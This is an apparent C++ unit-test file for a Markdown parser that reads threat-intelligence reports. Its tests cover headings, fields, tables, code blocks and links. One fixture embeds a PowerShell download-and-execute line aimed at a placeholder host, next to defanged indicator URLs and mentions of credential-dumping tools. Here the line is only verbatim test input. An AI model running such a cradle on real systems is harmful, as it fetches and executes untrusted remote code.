#include "converters/read/markdown_reader.h"

#include <catch2/catch.hpp>
#include <string>

#include "tests/converters/read/read_test_util.h"

namespace stixkit::convert {
namespace {

using testing::FieldKeyed;
using testing::SectionTitled;
using testing::Texts;
using testing::Titles;

TEST_CASE("markdown reader: ATX headings nest into paths and strip closing hashes",
          "[converters][read]") {
  const Document doc =
      ReadMarkdown("# Report ##\ntext\n## Timeline\n### Day *one*\n## IOCs\n#no\n");
  CHECK(doc.title == "Report");
  CHECK(Titles(doc) == std::vector<std::string>{"Report", "Timeline", "Day one", "IOCs"});
  CHECK(doc.sections[2].path == std::vector<std::string>{"Report", "Timeline", "Day one"});
  CHECK(doc.sections[2].line == 4);
  CHECK(doc.sections[3].path == std::vector<std::string>{"Report", "IOCs"});
  CHECK(Texts(doc.sections[3]) == std::vector<std::string>{"#no"});
}

TEST_CASE("markdown reader: setext underlines make level-1 and level-2 headings",
          "[converters][read]") {
  const Document doc = ReadMarkdown("Report Title\n============\n\nSummary\n-------\nBody text.\n");
  REQUIRE(doc.sections.size() == 2);
  CHECK(doc.sections[0].title == "Report Title");
  CHECK(doc.sections[0].level == 1);
  CHECK(doc.sections[0].line == 1);
  CHECK(doc.sections[1].title == "Summary");
  CHECK(doc.sections[1].level == 2);
  CHECK(doc.sections[1].line == 4);
  CHECK(Texts(doc.sections[1]) == std::vector<std::string>{"Body text."});
}

TEST_CASE("markdown reader: every field form gives a key and a value", "[converters][read]") {
  const Document doc = ReadMarkdown(
      "# F\n"
      "- **Discovery Date:** March 16\n"
      "* **Vector**: phishing\n"
      "**Sector:** Health\n"
      "__Actor:__ FIN7\n"
      "Affected Hosts: 12\n"
      "this line: is prose\n"
      "A very long key that has many words: still prose\n");
  const Section& s = doc.sections[0];
  CHECK(FieldKeyed(s, "Discovery Date").text == "March 16");
  CHECK(FieldKeyed(s, "Vector").text == "phishing");
  CHECK(FieldKeyed(s, "Sector").text == "Health");
  CHECK(FieldKeyed(s, "Actor").text == "FIN7");
  CHECK(FieldKeyed(s, "Affected Hosts").text == "12");
  REQUIRE(s.blocks.size() == 6);
  CHECK(s.blocks[5].kind == BlockKind::kParagraph);
  CHECK(s.blocks[5].text == "this line: is prose A very long key that has many words: still prose");
  CHECK(s.blocks[1].line == 3);
}

TEST_CASE("markdown reader: a bold-key field continues on its wrapped lines",
          "[converters][read]") {
  const Document doc = ReadMarkdown("- **Details:** the actor\n  moved laterally\n- next\n");
  REQUIRE(doc.sections[0].blocks.size() == 2);
  CHECK(doc.sections[0].blocks[0].key == "Details");
  CHECK(doc.sections[0].blocks[0].text == "the actor moved laterally");
}

TEST_CASE("markdown reader: nested lists take their depth from indentation", "[converters][read]") {
  const Document doc = ReadMarkdown(
      "- top\n"
      "  - child\n"
      "    1. grandchild\n"
      "  - second child\n"
      "- **Key:** top field\n"
      "    * deep field child\n");
  const Section& s = doc.sections[0];
  REQUIRE(s.blocks.size() == 6);
  std::vector<int> depths;
  for (const Block& b : s.blocks) depths.push_back(b.depth);
  CHECK(depths == std::vector<int>{0, 1, 2, 1, 0, 1});
  CHECK(s.blocks[2].text == "grandchild");
  CHECK(s.blocks[2].kind == BlockKind::kListItem);
  CHECK(s.blocks[4].kind == BlockKind::kField);
  CHECK(s.blocks[4].depth == 0);
  CHECK(s.blocks[5].line == 6);
}

TEST_CASE("markdown reader: a table's body rows carry the header cells", "[converters][read]") {
  const Document doc = ReadMarkdown(
      "## IOCs\n"
      "| Type | Value | Note |\n"
      "|------|:-----:|------|\n"
      "| IPv4 | `198.51.100.7` | C2 \\| beacon |\n"
      "| URL | [payload](hxxp://evil[.]example/p) | **staging** |\n"
      "\n"
      "after\n");
  const Section& s = SectionTitled(doc, "IOCs");
  REQUIRE(s.blocks.size() == 3);
  const Block& ip = s.blocks[0];
  CHECK(ip.kind == BlockKind::kTableRow);
  CHECK(ip.headers == std::vector<std::string>{"Type", "Value", "Note"});
  CHECK(ip.cells == std::vector<std::string>{"IPv4", "198.51.100.7", "C2 | beacon"});
  CHECK(ip.text == "IPv4 | 198.51.100.7 | C2 | beacon");
  CHECK(ip.line == 4);
  const Block& url = s.blocks[1];
  CHECK(url.cells == std::vector<std::string>{"URL", "payload", "staging"});
  REQUIRE(url.links.size() == 1);
  CHECK(url.links[0].text == "payload");
  CHECK(url.links[0].url == "hxxp://evil[.]example/p");
  CHECK(url.links[0].line == 5);
  CHECK(s.blocks[2].kind == BlockKind::kParagraph);
}

TEST_CASE("markdown reader: fenced and indented code stay verbatim", "[converters][read]") {
  const Document doc = ReadMarkdown(
      "text\n"
      "```powershell\n"
      "IEX (New-Object Net.WebClient).DownloadString('http://x')\n"
      "  **not bold**\n"
      "```\n"
      "\n"
      "    indented code\n"
      "      more\n"
      "\n"
      "~~~\n"
      "unclosed fence runs to the end\n");
  const Section& s = doc.sections[0];
  REQUIRE(s.blocks.size() == 4);
  CHECK(s.blocks[1].kind == BlockKind::kCode);
  CHECK(s.blocks[1].text ==
        "IEX (New-Object Net.WebClient).DownloadString('http://x')\n  **not "
        "bold**");
  CHECK(s.blocks[1].line == 2);
  CHECK(s.blocks[1].links.empty());
  CHECK(s.blocks[2].kind == BlockKind::kCode);
  CHECK(s.blocks[2].text == "indented code\n  more");
  CHECK(s.blocks[3].text == "unclosed fence runs to the end");
}

TEST_CASE(
    "markdown reader: paragraphs fold, drop emphasis and keep links and "
    "bare URLs",
    "[converters][read]") {
  const Document doc = ReadMarkdown(
      "The **actor** used _lsass_dump.exe_ and\n"
      "`mimikatz`; see [the advisory](https://example.com/a \"title\")\n"
      "and hxxps://evil[.]example/x_y.\n");
  const Block& p = doc.sections[0].blocks[0];
  CHECK(p.text ==
        "The actor used lsass_dump.exe and mimikatz; see the advisory and "
        "hxxps://evil[.]example/x_y.");
  REQUIRE(p.links.size() == 2);
  CHECK(p.links[0].text == "the advisory");
  CHECK(p.links[0].url == "https://example.com/a");
  CHECK(p.links[0].line == 2);
  CHECK(p.links[1].url == "hxxps://evil[.]example/x_y");
  CHECK(p.links[1].line == 3);
}

TEST_CASE("markdown reader: blockquotes and thematic breaks leave only their text",
          "[converters][read]") {
  const Document doc = ReadMarkdown("> quoted *line*\n> continues\n\n---\n\n***\nafter\n");
  CHECK(Texts(doc.sections[0]) == std::vector<std::string>{"quoted line continues", "after"});
}

TEST_CASE(
    "markdown reader: front-matter labels before the first heading "
    "become sections",
    "[converters][read]") {
  const Document doc = ReadMarkdown(
      "TLP:AMBER\n"
      "Full Report\n"
      "The company said it was attacked.\n"
      "Analysis Summary\n"
      "# Report\n");
  CHECK(Titles(doc) == std::vector<std::string>{"", "Full Report", "Analysis Summary", "Report"});
  CHECK(Texts(doc.sections[0]) == std::vector<std::string>{"TLP:AMBER"});
  CHECK(doc.sections[1].level == 0);
  CHECK(doc.sections[1].line == 2);
  CHECK(Texts(doc.sections[1]) == std::vector<std::string>{"The company said it was attacked."});
  CHECK(doc.sections[3].path == std::vector<std::string>{"Report"});
}

TEST_CASE(
    "markdown reader: a Title Case line inside a wrapped sentence is not "
    "a label",
    "[converters][read]") {
  const Document doc = ReadMarkdown("The breach affected\nMicrosoft Exchange\nservers.\n# H\n");
  CHECK(Titles(doc) == std::vector<std::string>{"", "H"});
  CHECK(Texts(doc.sections[0]) ==
        std::vector<std::string>{"The breach affected Microsoft Exchange servers."});
}

TEST_CASE("markdown reader: YAML front matter becomes preamble fields", "[converters][read]") {
  const Document doc = ReadMarkdown("---\ntitle: APT report\ntlp: amber\n---\n# Report\n");
  REQUIRE(doc.sections.size() == 2);
  CHECK(doc.sections[0].title.empty());
  REQUIRE(doc.sections[0].blocks.size() == 2);
  CHECK(doc.sections[0].blocks[1].key == "tlp");
  CHECK(doc.sections[0].blocks[1].text == "amber");
  CHECK(doc.sections[0].blocks[1].line == 3);
}

TEST_CASE("markdown reader: unclosed link brackets stay literal text", "[converters][read]") {
  // Each "[a](" looks for its ")"; a naive scan would be quadratic in the line.
  std::string line;
  for (int i = 0; i < 100000; ++i) line += "[a](b";
  const Document doc = ReadMarkdown(line);
  REQUIRE(doc.sections.size() == 1);
  CHECK(doc.sections[0].blocks[0].text.size() == line.size());
}

}  // namespace
}  // namespace stixkit::convert
